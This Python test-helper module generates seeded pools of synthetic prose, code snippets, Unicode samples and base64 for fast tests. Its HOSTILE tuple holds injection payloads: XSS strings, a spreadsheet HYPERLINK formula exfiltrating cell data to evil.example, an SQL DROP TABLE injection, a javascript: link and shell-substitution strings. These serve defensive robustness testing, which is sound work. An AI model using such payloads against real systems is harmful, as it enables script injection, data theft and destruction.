"""Texts of any length for little time: cut from seeded pools of prose, code, foreign scripts and attachments."""

import base64
import random
from functools import lru_cache

from tests.corpus.model import Text

PROSE_CHARACTERS = 1_500_000
VOCABULARY = 3_000
SYLLABLES = "ba ce di fo gu ha je ki lo mu na pe qui ro su ta ve wi xo yu zan bel cor den fir gol"
WORLD = "naïve Größe façade 測試 データ проверка اختبار בדיקה ☃ 🖥 👩‍💻 — “quoted” √2 ≈ 1.414 ﬁn Ünïcödé Žluťoučký"
CODE = (
    "def {0}_{1}({2}: int, {3}: str) -> {4}:",
    '    return {0}["{1}"] + f"{{{2}}}"  # {3} {4}',
    "    if ({0}.{1} !== {2}) {{ throw new Error(`{3}: ${{{4}}}`); }}",
    "import {{ {0}, {1} }} from '../{2}/{3}';\t// {4}",
    '  2: {0} {1} <{2} class="{3}">{4}</{2}>',
    "ERROR {0}.{1}:{2} \\{3}\\{4} failed with code 1",
    "",
)
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "'; DROP TABLE sessions; --",
    "[link](javascript:alert(1)) ![](https://evil.example/track.png)",
    "\u202egnirts desrever\u202c and \u200bzero\u200bwidth",
    "NUL \u0000 bell \u0007 escape \u001b[31mred\u001b[0m",
    "lone surrogate \ud83d and \udc00 end",
    '{"tokens": {"input": 999999999}, "cost": 1e99}',
    "$E = mc^2$ :material/home: :red[red] `code` ~~~",
    '\r\n\t\\" \\u0041 %s {0} ${HOME} `id`',
)


class Texts:
    """Pools of one seed, and the texts cut from them."""

    def __init__(self, seed: int) -> None:
        """Make the pools; about a quarter of a second."""
        rng = random.Random(f"texts:{seed}")
        syllables = SYLLABLES.split()
        words = ["".join(rng.choices(syllables, k=rng.randint(1, 4))) for _ in range(VOCABULARY)]
        prose = " ".join(rng.choices(words, k=PROSE_CHARACTERS // 6)).replace(" ba", ".\n", 9_999)
        lines = [rng.choice(CODE).format(*rng.choices(words, k=5)) for _ in range(30_000)]
        world = " ".join(rng.choices([*WORLD.split(), *words[:40]], k=40_000))
        self._pools = {
            "prose": prose,
            "code": "\n".join(lines),
            "world": world,
            "base64": base64.b64encode(rng.randbytes(900_000)).decode(),
            "hostile": "",
        }

    def cut(self, text: Text) -> str:
        """Make a text; one that is longer than its pool is put together from several places."""
        if text.pool == "hostile":
            return f"{HOSTILE[text.at % len(HOSTILE)]} {self.cut(Text('world', text.at, text.size))}"
        pool = self._pools[text.pool]
        start = text.at % len(pool)
        if start + text.size <= len(pool):
            return pool[start : start + text.size]
        pieces, left = [], text.size
        while left > 0:
            piece = pool[start : start + left]
            pieces.append(piece)
            left -= len(piece)
            start = (start * 31 + 977) % (len(pool) // 2)
        return "".join(pieces)


@lru_cache(maxsize=2)
def texts_of(seed: int) -> Texts:
    """Return the texts of a seed; the pools are made once."""
    return Texts(seed)
